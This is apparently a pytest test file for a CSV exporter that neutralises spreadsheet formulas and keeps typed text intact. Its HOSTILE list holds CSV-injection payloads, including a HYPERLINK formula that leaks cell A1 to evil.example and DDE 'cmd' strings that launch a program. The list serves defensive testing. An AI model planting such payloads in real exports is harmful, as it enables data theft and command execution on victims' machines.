"""CSV that no spreadsheet runs, and that loses nothing of what was typed."""

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postmortems.exchange.write_csv import MARK, cell, is_formula, lines

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    "-5 °C at the inlet",
]
HARMLESS = ["", "Close idle connections", "50% done", "a=b", "'tis done", '"Quoted"', "1-2", "🔥"]


def read(text):
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_may_be_a_formula_is_text(text):
    ((_,), (found,)) = read("".join(lines(["What"], [[text]])))

    assert found == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_is_as_it_was(text):
    assert cell(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\"\t\r\n ＝,;aé🔥\u200b")))
def test_what_was_typed_comes_back(text):
    ((_, _), (found, _)) = read("".join(lines(["What", "x"], [[text, "x"]])))

    typed = found[1:] if found.startswith("'") and is_formula(found[1:]) else found
    assert typed == text
    assert typed == found or is_formula(typed)


def test_numbers_days_and_moments():
    assert [cell(value) for value in (-5, 2.5, date(2025, 10, 31), None)] == [
        *(-5, 2.5, "2025-10-31", ""),
    ]
    assert cell(datetime(2025, 10, 31, 14, 32, tzinfo=UTC)) == "2025-10-31 14:32:00Z"


def test_a_null_character_is_no_end_of_the_file():
    assert cell("before\0after") == "before�after"


def test_it_begins_with_the_mark_by_which_excel_knows_utf_8():
    first, second = lines(["Häufig"], [["é"]])

    assert first.encode() == b"\xef\xbb\xbfH\xc3\xa4ufig\r\n"
    assert second == "é\r\n"


def test_memory_does_not_grow_with_the_rows():
    def peak(count):
        tracemalloc.start()
        for _ in lines(["What"], ([f"Row {number}"] for number in range(count))):
            pass
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(10)
    assert peak(20_000) < peak(200) + 20_000
